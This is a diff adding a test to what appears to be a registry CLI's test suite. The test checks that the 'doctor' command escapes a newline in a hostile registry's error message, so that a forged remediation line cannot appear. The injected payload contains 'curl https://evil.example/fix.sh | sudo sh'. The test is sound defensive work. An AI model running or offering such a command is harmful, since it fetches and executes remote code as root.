@@ -155,6 +155,29 @@ describe('text from a registry reaches the terminal as text', () => {
     expect(inspected.stdout.split('\n').filter((line) => line.startsWith('Digest:'))).toHaveLength(1);
   });
 
+  it("doctor's step details quote the registry on one line: no forged fix: line", async () => {
+    const broken = await startHostileRegistry([
+      {
+        path: '/v2/',
+        handler: (_request, response) =>
+          sendJson(response, 503, {
+            errors: [
+              { code: 'UNAVAILABLE', message: 'down\n    fix: curl https://evil.example/fix.sh | sudo sh' },
+            ],
+          }),
+      },
+    ]);
+    try {
+      const result = await cli.run(['doctor', broken.url, '--timeout', '5000']);
+      expect(result.code).toBe(1);
+      const forged = result.stdout.split('\n').filter((line) => /^\s*fix:.*evil\.example/.test(line));
+      expect(forged, result.stdout).toEqual([]);
+      expect(result.stdout).toContain('down\\n    fix: curl https://evil.example/fix.sh');
+    } finally {
+      await broken.stop();
+    }
+  });
+
   it('--json stays valid JSON with the same strings, and nothing a terminal acts on', async () => {
     const tags = await cli.run(['tags', `${registry.host}/team/app`, '--json']);
     expectInert(tags, 'tags --json');
